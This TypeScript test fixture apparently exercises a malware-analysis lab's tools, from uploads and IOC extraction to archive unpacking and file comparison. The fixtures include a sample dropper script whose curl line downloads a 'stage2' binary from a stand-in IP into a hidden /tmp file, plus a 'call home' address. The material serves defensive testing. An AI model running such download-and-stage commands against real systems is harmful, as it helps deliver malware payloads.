import { copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { runToolOrFail } from '../../../src/base/process.ts';

/** One call of each tool of the lab, in an order in which each finds what the one before has left. */

export interface Bench {
  readonly hostFolder: string;
  readonly url: string;
  readonly allowedHost: string;
  close(): void;
}

export const dropper = [
  '#!/bin/bash',
  'echo fetching from hxxp://payload[.]example[.]com/gate.php',
  'curl -s http://203.0.113.77:8080/stage2.bin -o /tmp/.cache-update',
  'echo aGVsbG8gZnJvbSBiYXNlNjQgbGF5ZXI= | base64 -d',
  '',
].join('\n');

/** Files of the host, and a server on the loopback that hands one out. */
export async function openBench(folder: string): Promise<Bench> {
  const hostFolder = join(folder, 'host');
  mkdirSync(join(hostFolder, 'out'), { recursive: true });
  writeFileSync(join(hostFolder, 'dropper.sh'), dropper);
  copyFileSync('/bin/true', join(hostFolder, 'first.elf'));
  copyFileSync('/bin/false', join(hostFolder, 'second.elf'));
  writeFileSync(join(hostFolder, 'inside one.txt'), 'call home to 198.51.100.23\n');
  await runToolOrFail('7z', ['a', '-tzip', '-mem=AES256', '-pinfected', 'locked.zip', 'inside one.txt'], {
    cwd: hostFolder,
  });
  const server = createServer((_request, response) => response.end('a file of the loopback: sample.example.org\n'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    hostFolder,
    url: `http://127.0.0.1:${port}/notes.txt`,
    allowedHost: `127.0.0.1:${port}`,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

export type Data = Record<string, unknown>;

export interface LabCall {
  readonly name: string;
  input(bench: Bench): Data;
  /** What has to be true of the data of the answer. */
  readonly expected: (bench: Bench) => Data;
}

const bring = (name: string): LabCall => ({
  name: 'upload_from_host',
  input: ({ hostFolder }) => ({ host_path: join(hostFolder, name) }),
  expected: () => ({ sha256: expect64 }),
});

/** Told apart by the test: any digest. */
export const expect64 = 'a digest of 64 characters';

export const calls: readonly LabCall[] = [
  { name: 'get_server_info', input: () => ({}), expected: () => ({ reachable: true, problem: null }) },
  bring('dropper.sh'),
  bring('first.elf'),
  bring('second.elf'),
  bring('locked.zip'),
  {
    name: 'list_files',
    input: () => ({}),
    expected: () => ({ directory: 'samples', has_more: false }),
  },
  {
    name: 'get_file_info',
    input: () => ({ file: 'dropper.sh' }),
    expected: () => ({ kind: 'shell', size_bytes: dropper.length, origins: [{ how: 'brought from the host' }] }),
  },
  {
    name: 'extract_archive',
    input: () => ({ archive_file: 'locked.zip' }),
    expected: () => ({ file_count: 1, password_used: 'infected', format: 'zip', refused_count: 0 }),
  },
  {
    name: 'run_tool',
    input: () => ({ command: 'cat dropper.sh | grep -c payload' }),
    expected: () => ({ exit_code: 0, stdout: '1\n', shell: false, evidence: [{ unchanged: true }] }),
  },
  {
    name: 'run_tool',
    input: () => ({ command: 'sha256sum', input_file: 'locked/inside one.txt' }),
    expected: () => ({ exit_code: 0, timed_out: false, evidence: [{ unchanged: true }] }),
  },
  {
    name: 'extract_iocs',
    input: () => ({ file: 'dropper.sh' }),
    expected: () => ({ summary: { by_type: { url: 2 } } }),
  },
  {
    name: 'download_from_url',
    input: ({ url }) => ({ url }),
    expected: () => ({ status: 200, size_bytes: 43, address: '127.0.0.1' }),
  },
  {
    name: 'analyze_file',
    input: () => ({ file: 'dropper.sh', depth: 'quick' }),
    expected: () => ({
      job: { state: 'done' },
      report: { file: { kind: { id: 'shell' } }, evidence: { is_unchanged: true } },
    }),
  },
  {
    name: 'suggest_tools',
    input: () => ({ file: 'first.elf' }),
    expected: () => ({ matched_category: 'elf' }),
  },
  { name: 'check_tools', input: () => ({}), expected: () => ({}) },
  { name: 'get_tool_help', input: () => ({ tool: 'readelf' }), expected: () => ({ installed: true, exit_code: 0 }) },
  {
    name: 'check_behavior_prerequisites',
    input: () => ({ file: 'first.elf' }),
    expected: () => ({ is_pe: false }),
  },
  {
    name: 'verify_string_usage',
    input: () => ({ file: 'first.elf', query: 'GNU coreutils' }),
    expected: () => ({ is_code_file: true }),
  },
  {
    name: 'compare_files',
    input: () => ({ file_a: 'first.elf', file_b: 'second.elf', depth: 'quick' }),
    expected: () => ({ diff: { is_identical: false } }),
  },
  {
    name: 'download_file',
    input: ({ hostFolder }) => ({ file_path: 'dropper.sh', output_path: join(hostFolder, 'out') }),
    expected: () => ({ archived: true, archive_password: 'infected' }),
  },
  { name: 'get_report_template', input: () => ({}), expected: () => ({}) },
  { name: 'get_report_guidance', input: () => ({ topic: 'confidence' }), expected: () => ({ topic: 'confidence' }) },
  {
    name: 'get_osint_guidance',
    input: () => ({ topic: 'resources', ioc_type: 'hash' }),
    expected: () => ({ topic: 'resources' }),
  },
];
